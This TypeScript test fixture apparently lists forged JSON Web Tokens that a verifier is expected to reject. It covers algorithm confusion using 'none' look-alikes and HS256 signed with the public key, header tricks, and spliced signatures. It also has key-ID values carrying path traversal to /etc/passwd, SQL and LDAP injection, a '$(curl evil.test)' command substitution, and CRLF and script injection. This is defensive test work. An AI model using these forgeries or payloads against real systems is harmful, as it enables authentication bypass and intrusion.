import { createHash, createHmac } from 'node:crypto';
import { createTestKey, encodeJws, type TestKey } from '../tokens.ts';
import { key as proofKey, type RefusalRow } from './refusal-row.ts';
import { type Signer, type TokenParts, tokenRow, withHeader, withPayload } from './token-row.ts';

const algorithmRow = tokenRow('token_algorithm', 8);
const signatureRow = tokenRow('token_signature', 9);

const unsigned: Signer = () => Buffer.alloc(0);
const hmac =
  (hash: string, secret: string | Buffer): Signer =>
  (bytes) =>
    createHmac(hash, secret).update(bytes).digest();

/** Signs with what the issuer publishes as if it was a shared secret. */
const withPublicSecret =
  (secretOf: (key: TestKey) => string | Buffer) =>
  (parts: TokenParts): string =>
    withHeader({ alg: 'HS256' }, hmac('sha256', secretOf(parts.key)))(parts);

const spki = ({ publicKey }: TestKey): Buffer => publicKey.export({ type: 'spki', format: 'der' });

/** `none`, for lenient readers. */
const likeNone = ['non\u0435', '\uff4e\uff4f\uff4e\uff45', 'none\u0000', '\u0000none', 'none\n'];

const algorithms = [
  ...likeNone,
  'ES256\u0000',
  'ES256 ',
  ' ES256',
  'ES256,none',
  '\u0415S256',
  'HS256/ES256',
  'ES256K',
  'ES256-K',
  'A128KW',
  'dir',
  'PBES2-HS256+A128KW',
  'RSA1_5',
  'ECDH-ES',
  'RS1',
  'toString',
  '__proto__',
];

const criticalNames = ['exp', 'alg', 'kid', 'typ', 'jwk', '', '__proto__'];

/** Attacks on algorithm, key and signature that other tables do not have, each with its reason. */
export const tokenHeaderRows: readonly RefusalRow[] = [
  ...algorithms.map((alg) =>
    algorithmRow(`alg ${JSON.stringify(alg)}, signed`, withHeader({ alg })),
  ),
  ...likeNone.map((alg) =>
    algorithmRow(`alg ${JSON.stringify(alg)}, unsigned`, withHeader({ alg }, unsigned)),
  ),
  ...[1, 0, true, {}, [], ['none'], [['ES256']], { alg: 'ES256' }].map((alg) =>
    algorithmRow(`alg ${JSON.stringify(alg)}`, withHeader({ alg })),
  ),
  algorithmRow(
    'HS256 with the published key in DER as the secret',
    withPublicSecret((key) => spki(key)),
  ),
  algorithmRow(
    'HS256 with the DER in base64 as the secret',
    withPublicSecret((key) => spki(key).toString('base64')),
  ),
  algorithmRow(
    'HS256 with the published JWK as the secret',
    withPublicSecret(({ jwk }) => JSON.stringify(jwk)),
  ),
  algorithmRow(
    'HS256 with a coordinate or modulus as the secret',
    withPublicSecret(({ jwk }) => Buffer.from(String(jwk['x'] ?? jwk['n']), 'base64url')),
  ),
  algorithmRow(
    'HS256 with the ID of the key as the secret',
    withPublicSecret(({ kid }) => kid),
  ),
  algorithmRow(
    'HS256 with the SHA-256 of the published key as the secret',
    withPublicSecret((key) => createHash('sha256').update(spki(key)).digest()),
  ),
  algorithmRow('HS256 with a key in jwk', (parts) =>
    withHeader(
      { alg: 'HS256', jwk: { kty: 'oct', k: 'c2VjcmV0' } },
      hmac('sha256', 'secret'),
    )(parts),
  ),
  ...criticalNames.map((name) =>
    algorithmRow(`crit ${JSON.stringify([name])}`, withHeader({ crit: [name], [name]: 'x' })),
  ),
  ...['exp', {}, 0, true, [[]], ['exp', 'exp']].map((crit) =>
    algorithmRow(`crit ${JSON.stringify(crit)}`, withHeader({ crit })),
  ),
  ...['false', 0, 'true', 1, {}, []].map((b64) =>
    algorithmRow(`b64 ${JSON.stringify(b64)}`, withHeader({ b64 })),
  ),
  algorithmRow('b64 false, over the payload as it is', ({ header, claims, key }) => {
    const protectedHeader = { ...header, b64: false, crit: ['b64'] };
    const text = JSON.stringify(claims);
    const head = Buffer.from(JSON.stringify(protectedHeader)).toString('base64url');
    const [, , signature = ''] = encodeJws(protectedHeader, text, key).split('.');
    return `${head}.${Buffer.from(text).toString('base64url')}.${signature}`;
  }),

  ...[
    '/dev/null',
    '../../../../../../etc/passwd',
    'file:///dev/null',
    "' OR '1'='1",
    "1'; DROP TABLE keys;--",
    '$(curl evil.test)',
    '| cat /etc/passwd',
    '*)(objectClass=*',
    'constructor',
    'hasOwnProperty',
    'k'.repeat(5_000),
    '\u0000',
    '\r\nX-Evil: 1',
    '{{7*7}}',
    '<script>',
    '\u202E',
  ].map((kid) =>
    signatureRow(
      `kid ${JSON.stringify(kid.slice(0, 40))}`,
      withHeader({ kid }, () => Buffer.alloc(64)),
    ),
  ),
  ...[{}, [], true, [['kid']], { toString: 'x' }].map((kid) =>
    signatureRow(`kid ${JSON.stringify(kid)}`, withHeader({ kid })),
  ),
  signatureRow('the kid of the issuer with a zero behind it', (parts) =>
    withHeader({ kid: `${parts.key.kid}\u0000` })(parts),
  ),
  signatureRow('a key of its own in jwk, x5c, jku and x5u at once', (parts) => {
    const own = createTestKey('ES256', parts.key.kid);
    return withHeader(
      {
        alg: 'ES256',
        jwk: own.jwk,
        x5c: [spki(own).toString('base64')],
        jku: 'http://127.0.0.1:9/keys',
        x5u: 'http://127.0.0.1:9/key.pem',
      },
      own,
    )(parts);
  }),
  signatureRow('the key of a client, which signs proofs', (parts) =>
    withHeader({ alg: proofKey.algorithm, jwk: proofKey.jwk }, proofKey)(parts),
  ),
  signatureRow('a signature over another header', (parts) => {
    const [, payload, signature] = withHeader({ cty: 'JWT' })(parts).split('.');
    const [head] = withHeader({ cty: 'jwt' })(parts).split('.');
    return `${head}.${payload}.${signature}`;
  }),
  signatureRow('a signature over another payload with the same claims', (parts) => {
    const [head, payload] = withPayload((claims) => JSON.stringify(claims, null, 1))(parts).split(
      '.',
    );
    const [, , signature] = withPayload((claims) => claims)(parts).split('.');
    return `${head}.${payload}.${signature}`;
  }),
  signatureRow('the base64url of a signature as the signature', (parts) => {
    const [head, payload, signature = ''] = withHeader({})(parts).split('.');
    return `${head}.${payload}.${Buffer.from(signature).toString('base64url')}`;
  }),
];
